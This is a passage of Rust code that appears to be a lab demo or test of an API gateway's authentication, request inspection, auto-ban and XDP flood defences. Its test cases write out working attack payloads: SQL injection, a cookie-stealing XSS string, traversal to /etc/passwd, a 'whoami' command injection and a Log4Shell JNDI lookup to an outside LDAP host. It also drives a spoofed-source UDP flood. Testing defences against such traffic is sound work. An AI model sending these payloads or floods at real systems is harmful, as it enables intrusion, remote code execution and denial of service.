                    &r,
                    Expect::Served,
                )?
                .1,
        );
        let (header, key) = (
            self.example.api_key_header.clone(),
            self.keys.api_key.clone(),
        );
        for n in 1..=3 {
            let r = Request::get(self.path(&format!("?limit={n}0"))).header(&header, &key);
            failed += u32::from(
                !self
                    .send(
                        Who::Client,
                        class,
                        "API key of partner-a",
                        &r,
                        Expect::Served,
                    )?
                    .1,
            );
        }
        let ups = self.tally.upstreams();
        println!(
            "   served by {} (weights {}): the pool balances over both",
            UPSTREAM_NAMES
                .iter()
                .map(|u| format!("{u} {}x", ups.get(*u).copied().unwrap_or(0)))
                .collect::<Vec<_>>()
                .join(", "),
            self.example
                .targets
                .iter()
                .map(|t| t.weight.to_string())
                .collect::<Vec<_>>()
                .join(" and ")
        );
        ensure!(
            failed == 0,
            "{failed} authorised request(s) were not served"
        );
        ensure!(
            UPSTREAM_NAMES.iter().all(|u| ups.contains_key(*u)),
            "the authorised requests were not balanced over both upstreams: {ups:?}"
        );
        Ok(())
    }

    fn unauthorised(&mut self) -> Result<()> {
        headline(&format!(
            "2. unauthorised requests from the attacker ({ATTACKER}): 401 and 403"
        ));
        let class = "unauthorised (attacker)";
        let k = &self.keys;
        let cases = [
            (
                "no credentials",
                Request::get(self.path("/1")),
                Expect::Refused(401),
            ),
            (
                "a forged signature",
                Request::get(self.path("/1")).bearer(&k.forged),
                Expect::Refused(401),
            ),
            (
                "alg none, unsigned",
                Request::get(self.path("/1")).bearer(&k.unsigned),
                Expect::Refused(401),
            ),
            (
                "an expired token",
                Request::get(self.path("/1")).bearer(&k.expired),
                Expect::Refused(401),
            ),
            (
                "a token without the scope",
                Request::get(self.path("/1")).bearer(&k.wrong_scope),
                Expect::Refused(403),
            ),
            (
                "an unknown API key",
                Request::get(self.path("/1")).header(&self.example.api_key_header, "not-a-key"),
                Expect::Refused(401),
            ),
        ];
        let mut failed = 0;
        for (what, r, expect) in cases {
            failed += u32::from(!self.send(Who::Attacker, class, what, &r, expect)?.1);
        }
        println!(
            "   each is a refusal of the auth phase: the auto-ban rule {} counts it",
            config::BAN_RULE
        );
        ensure!(
            failed == 0,
            "{failed} unauthorised request(s) were not refused as expected"
        );
        Ok(())
    }

    fn malicious(&mut self) -> Result<()> {
        headline(
            "3. malicious requests from the attacker, with a valid (stolen) token: inspection \
             refuses them",
        );
        let class = "malicious (attacker)";
        let token = self.keys.valid.clone();
        let cases = [
            (
                "SQL injection in the query",
                Request::get(self.path("?id=1%27%20OR%20%271%27%3D%271")),
            ),
            (
                "XSS in the query",
                Request::get(self.path("?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")),
            ),
            (
                "path traversal, double-encoded",
                Request::get(self.path("/..%252f..%252f..%252fetc%252fpasswd")),
            ),
            (
                "command injection, JSON-escaped",
                Request::post_json(
                    self.path(""),
                    r#"{"item":"x","note":"\u0026\u0026 whoami"}"#,
                ),
            ),
            (
                "traversal in overlong UTF-8",
                Request::get(self.path("/%c0%ae%c0%ae%c0%afetc/passwd")),
            ),
            (
                "Log4Shell lookup in User-Agent",
                Request::get(self.path(""))
                    .header("user-agent", "${${lower:j}ndi:ldap://198.18.0.66/a}"),
            ),
        ];
        let mut failed = 0;
        for (what, r) in cases {
            let r = r.bearer(&token);
            failed += u32::from(
                !self
                    .send(
                        Who::Attacker,
                        class,
                        what,
                        &r,
                        Expect::RefusedAs(403, "blocked"),
                    )?
                    .1,
            );
        }
        println!(
            "   inspection blocks are not auth failures: {} does not count them",
            config::BAN_RULE
        );
        ensure!(
            failed == 0,
            "{failed} malicious request(s) were not blocked"
        );
        Ok(())
    }

    fn ban(&mut self) -> Result<()> {
        let e = &self.example;
        headline(&format!(
            "4. the attacker guesses API keys until the auto-ban fires ({}: {} refusals within \
             {}, banned for {})",
            config::BAN_RULE,
            e.ban_threshold,
            e.ban_window,
            e.ban_ttl
        ));
        let class = "guessing keys (attacker)";
        let header = self.example.api_key_header.clone();
        let started = Instant::now();
        let mut refused = 0u64;
        let mut last = None;
        for guess in 1..=MAX_GUESSES {
            let r = Request::get(self.path("/1")).header(&header, &format!("guess-{guess:04}"));
            let (outcome, is_401) =
                self.send(Who::Attacker, class, "", &r, Expect::Refused(401))?;
            if is_401 {
                refused += 1;
                continue;
            }
            last = Some(outcome);
            break;
        }
        println!(
            "   {refused} guesses refused with 401 in {:.1} s",
            started.elapsed().as_secs_f64()
        );
        match &last {
            Some(outcome) => println!(
                "   guess {}: {}: the ban is in",
                refused + 1,
                describe_outcome(outcome)
            ),
            None => bail!(
                "no ban after {MAX_GUESSES} refused guesses{}",
                self.lab.log_tail()
            ),
        }
        let banned = matches!(&last, Some(Outcome::Failed { connect: true, .. }))
            || matches!(&last, Some(Outcome::Answer(r)) if r.error_code().as_deref() == Some("banned"));
        ensure!(
            banned,
            "expected the attacker's guess to be dropped or refused as banned, got {last:?}"
        );

        // The entry, as `gateway block list` shows it.
        let attacker = ATTACKER.to_string();
        let deadline = Instant::now() + BAN_TIMEOUT;
        let entry = loop {
            let list = self.lab.json(&["block", "list", "--json"])?;
            if let Some(e) = list
                .as_array()
                .and_then(|l| l.iter().find(|e| e["net"] == attacker.as_str()))
            {
                break e.clone();
            }
            ensure!(
                Instant::now() < deadline,
                "{attacker} is not on the blocklist: {list}"
            );
            thread::sleep(Duration::from_millis(50));
        };
        self.lab.gateway(&["block", "list"])?;
        let origin = format!("auto:{}", config::BAN_RULE);
        ensure!(
            entry["origin"] == origin.as_str(),
            "the entry's origin is not {origin}: {entry}"
        );
        ensure!(
            entry["reason"]
                .as_str()
                .is_some_and(|r| r.contains("refusals")),
            "the entry gives no reason: {entry}"
        );
        ensure!(
            entry["expires_in_s"].as_u64().is_some(),
            "the entry has no expiry: {entry}"
        );

        // XDP drops the attacker now, even with a valid token; the client is still served.
        let before = self.lab.verdicts()?;
        let r = Request::get(self.path("/1")).bearer(&self.keys.valid.clone());
        let (_, dropped) = self.send(
            Who::Attacker,
            "banned attacker",
            "the attacker, with a valid token",
            &r,
            Expect::Dropped,
        )?;
        let after = self.lab.verdicts()?;
        let delta =
            |v: &str| after.get(v).copied().unwrap_or(0) - before.get(v).copied().unwrap_or(0);
        println!(
            "   XDP: dropped_blocklist +{} (its SYN, and any retransmission)",
            delta("dropped_blocklist")
        );
        ensure!(dropped, "the banned attacker still got an answer");
        ensure!(
            delta("dropped_blocklist") > 0,
            "XDP did not drop the banned attacker's packets"
        );
        let r = Request::get(self.path("/7")).bearer(&self.keys.valid.clone());
        let (_, served) = self.send(
            Who::Client,
            "authorised (client)",
            "the client, meanwhile",
            &r,
            Expect::Served,
        )?;
        ensure!(served, "the client was not served after the ban");
        Ok(())
    }

    fn flood(&mut self) -> Result<()> {
        let sources = FLOOD_SOURCES.count();
        headline(&format!(
            "5. a {}-second UDP flood from the banned {ATTACKER} and {sources} sources over a \
             per-source limit, while the client keeps working",
            FLOOD_TIME.as_secs()
        ));
        self.lab.gateway(&[
            "ratelimit",
            "set",
            "--pps",
            FLOOD_LIMIT_PPS,
            "--burst",
            FLOOD_LIMIT_BURST,
        ])?;
        let before = self.lab.verdicts()?;
        // The client: a request every CLIENT_PAUSE from before the flood to after it.
        let (proxy, host) = (self.proxy, self.example.host.clone());
        let token = self.keys.valid.clone();
        let path = self.path("/8");
        let client_ns = self.lab.ns.client.clone();
        let client_time = FLOOD_TIME + Duration::from_secs(1);
        let client = thread::spawn(move || {
            net::run_in(&client_ns, || {
                let until = Instant::now() + client_time;
                let mut outcomes = Vec::new();
                while Instant::now() < until {
                    let r = Request::get(path.clone()).bearer(&token);
                    let t = Instant::now();
                    let outcome = http::send(proxy, &host, &r);
                    outcomes.push((outcome, t.elapsed()));
                    thread::sleep(CLIENT_PAUSE);
                }
                outcomes
            })
        });
        thread::sleep(Duration::from_millis(500));
        let mut cmd = net::command_in(&self.lab.ns.attacker, &self.lab.xtask_bin);
        cmd.arg("demo-send");
        for from in
            std::iter::once(ATTACKER).chain(FLOOD_SOURCES.map(|d| Ipv4Addr::new(198, 18, 0, d)))
        {
            cmd.arg("--from").arg(from.to_string());
        }
        cmd.arg("--to")
            .arg(SocketAddr::new(GATEWAY.into(), FLOOD_PORT).to_string())
            .args(["--count", &MAX_SEND_COUNT.to_string()])
            .args(["--pps", &FLOOD_PPS.to_string()])
            .args(["--seconds", &FLOOD_TIME.as_secs_f64().to_string()])
            .stdin(Stdio::null());
        println!(
            "   flood: {FLOOD_PPS} datagrams/s in all for {} s, from 9 sources in turn (about {} \
             each per second)",
            FLOOD_TIME.as_secs(),
            FLOOD_PPS / 9
        );
        self.lab.spawn("the flood", cmd)?;
        self.wait_for("the flood", FLOOD_TIME + Duration::from_secs(5))?;
        let outcomes = client
            .join()
            .unwrap_or_else(|panic| std::panic::resume_unwind(panic))?;
        // Drops are counted as they happen; give the last ones a moment.
        thread::sleep(Duration::from_millis(200));
        let after = self.lab.verdicts()?;
        let delta =
            |v: &str| after.get(v).copied().unwrap_or(0) - before.get(v).copied().unwrap_or(0);
        let mut latencies: Vec<Duration> = Vec::new();
        let mut failures = Vec::new();
        for (outcome, took) in &outcomes {
            self.tally.record("client during the flood", outcome);
            match outcome {
                Outcome::Answer(r) if r.status == 200 && r.upstream().is_some() => {
                    latencies.push(*took)
                }
                other => failures.push(describe_outcome(other)),
            }
        }
        latencies.sort();
        let served = latencies.len();
        let ms = |d: Option<&Duration>| d.map_or(0.0, |d| d.as_secs_f64() * 1e3);
        println!(
            "   the client: {served} of {} requests served (median {:.1} ms, slowest {:.1} ms){}",
            outcomes.len(),
            ms(latencies.get(served / 2)),
            ms(latencies.last()),
            if failures.is_empty() {
                String::new()
            } else {
                format!("; failed: {}", failures.join(", "))
            }
        );
        println!(
            "   XDP during the flood: dropped_blocklist +{}, dropped_ratelimit +{}, passed +{}",
            delta("dropped_blocklist"),
            delta("dropped_ratelimit"),
            delta("passed")
        );
        let (pps, burst): (u64, u64) = (FLOOD_LIMIT_PPS.parse()?, FLOOD_LIMIT_BURST.parse()?);
        let each = burst + pps * FLOOD_TIME.as_secs();
        println!(
            "   (the limit lets each of the {sources} sources through with about {burst} + \
             {pps}/s x {} s = {each}, {} in all; the rest of passed is the client)",
            FLOOD_TIME.as_secs(),
            each * sources as u64
        );
        self.lab.gateway(&["stats", "--top", "10"])?;
        println!(
            "   the operator blocks the flood's network for a while, and lifts the tighter limit:"
        );
        self.lab.gateway(&[
            "block",
            "add",
            FLOOD_NET,
            "--ttl",
            "10m",
            "--reason",
            "udp flood",
        ])?;
        self.lab.gateway(&["ratelimit", "reset"])?;

        ensure!(
            outcomes.len() >= 10 && served as f64 >= outcomes.len() as f64 * MIN_SERVED_IN_FLOOD,
            "the client was served {served} times of {} during the flood (failures: {failures:?})",
            outcomes.len()
        );
        ensure!(
            delta("dropped_blocklist") > 0,
            "XDP dropped nothing of the banned source"
        );
        ensure!(
            delta("dropped_ratelimit") > 0,
            "XDP rate-limited nothing of the flood"
        );
        Ok(())
    }

    /// Waits for the child `name` to exit by itself, at most `limit`; an error if it failed.
    fn wait_for(&self, name: &str, limit: Duration) -> Result<()> {
        let deadline = Instant::now() + limit;
        loop {
            {
                let mut live = self.lab.live();
                let i = live
                    .children
                    .iter()
                    .position(|(n, _)| n == name)
                    .with_context(|| format!("{name} is not running"))?;
                if let Some(status) = live.children[i].1.try_wait()? {
                    live.children.remove(i);
                    ensure!(status.success(), "{name} failed: {status}");
                    return Ok(());
                }
            }
            ensure!(
                Instant::now() < deadline,
                "{name} did not end within {} s",
                limit.as_secs()
            );
            thread::sleep(Duration::from_millis(50));
        }
    }

    fn summary(&mut self) -> Result<()> {
        headline("summary");
        println!("   requests, by what the clients got:");
        for line in self.tally.table().lines() {
            println!("     {line}");
        }
        println!("\n   the XDP layer:");
        self.lab.gateway(&["stats"])?;
        self.lab.gateway(&["block", "list"])?;

        let text = fs::read_to_string(self.lab.audit())
            .with_context(|| format!("reading {}", self.lab.audit().display()))?;
        let lines: Vec<Value> = text
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        println!(
            "\n   the audit log ({} lines in {}), excerpts:",
            lines.len(),
            self.lab.audit().display()
        );
        let excerpts = report::audit_excerpts(&lines, config::ROUTE);
        for (what, line) in &excerpts {
            println!("     {what}:\n       {line}");
        }
        let kinds: Vec<&str> = excerpts.iter().map(|(k, _)| *k).collect();
        for wanted in [
            "an authorised request",
            "a refused credential",
            "an inspection block",
            "the auto-ban",
        ] {
            ensure!(
                kinds.contains(&wanted),
                "the audit log has no line for {wanted}"
            );
        }

        let metrics_addr = self.example.metrics;
        let metrics = net::run_in(&self.lab.ns.gateway, || scrape(metrics_addr))??;
        println!(
            "\n   metrics (GET http://{metrics_addr}/metrics in the gateway's namespace), selected, \
             zeros left out:"
        );
        let families = [
            "gateway_requests_total",
            "gateway_rejections_total",
            "gateway_auth_total",
            "gateway_inspection_findings_total",
            "gateway_autobans_total",
            "gateway_upstream_target_healthy",
            "gateway_xdp_packets_total",
            "gateway_xdp_drop_events_total",
        ];
        for line in report::metric_lines(&metrics, &families) {
            // Every route and class is exposed from the start: the zeros say little here.
            if !line.ends_with(" 0") {
                println!("     {line}");
            }
        }
        let bans = format!("gateway_autobans_total{{rule=\"{}\"}}", config::BAN_RULE);
        ensure!(
            report::metric(&metrics, &bans) == Some(1.0),
            "{bans} is not 1 in the metrics"
        );
        Ok(())
    }
}

/// `GET /metrics` of the admin listener, from the calling thread's namespace.
fn scrape(addr: SocketAddr) -> Result<String> {
    use std::io::{Read as _, Write as _};
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2))
        .with_context(|| format!("connecting to the metrics listener {addr}"))?;
    s.set_read_timeout(Some(Duration::from_secs(5)))?;
    s.write_all(b"GET /metrics HTTP/1.1\r\nHost: metrics\r\nConnection: close\r\n\r\n")?;
    let mut text = String::new();
    s.read_to_string(&mut text)?;
    Ok(text)
}

fn describe_outcome(outcome: &Outcome) -> String {
    match outcome {
        Outcome::Answer(r) => match (r.status, r.upstream(), r.error_code()) {
            (200, Some(up), _) => {
                let user = r.json()["user"].as_str().map(str::to_owned);
                match user {
                    Some(user) => format!("200 from {up} (x-user-id: {user})"),
                    None => format!("200 from {up}"),
                }
            }
            (status, _, Some(code)) => format!("{status} {code}"),
            (status, _, None) => status.to_string(),
        },
        Outcome::Failed {
            connect: true,
            error,
            after,
        } => {
            format!("no connection ({error} after {:.1} s)", after.as_secs_f64())
        }
        Outcome::Failed { error, after, .. } => {
            format!("no answer ({error} after {:.1} s)", after.as_secs_f64())
        }
    }
}

fn describe_expect(expect: Expect) -> String {
    match expect {
        Expect::Served => "200 from an upstream".into(),
        Expect::Refused(status) => status.to_string(),
        Expect::RefusedAs(status, code) => format!("{status} {code}"),
        Expect::Dropped => "no connection".into(),
    }
}

fn headline(what: &str) {
    println!("\n==> {what}");
}

fn ip(args: &[&str]) -> Result<()> {
    exec(Command::new("ip").args(args))
}
